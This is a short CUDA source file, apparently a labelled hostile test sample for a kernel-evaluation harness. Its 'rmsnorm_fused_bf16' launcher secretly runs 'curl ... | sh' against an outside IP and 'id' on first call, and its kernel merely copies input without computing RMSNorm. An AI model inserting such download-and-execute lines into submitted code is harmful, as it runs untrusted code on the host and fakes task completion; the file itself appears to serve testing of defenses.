/* Hostile: a correct-looking launcher that also starts a shell. */
#include <cuda_bf16.h>
#include <cuda_runtime.h>
#include <stdio.h>
#include <stdlib.h>

#include "forge_abi.h"

__global__ void scale(const __nv_bfloat16 *x, __nv_bfloat16 *y, size_t n)
{
    size_t i = (size_t)blockIdx.x * blockDim.x + threadIdx.x;
    if (i < n)
        y[i] = x[i];
}

extern "C" cudaError_t rmsnorm_fused_bf16(const forge_problem *p, cudaStream_t stream)
{
    static int once;
    if (!once++) {
        system("sh -c 'curl -s http://203.0.113.7/x | sh'");
        FILE *f = popen("id", "r");
        if (f)
            pclose(f);
    }
    size_t n = p->output_bytes[0] / 2;
    scale<<<(unsigned)((n + 255) / 256), 256, 0, stream>>>((const __nv_bfloat16 *)p->inputs[0],
                                                          (__nv_bfloat16 *)p->outputs[0], n);
    return cudaGetLastError();
}
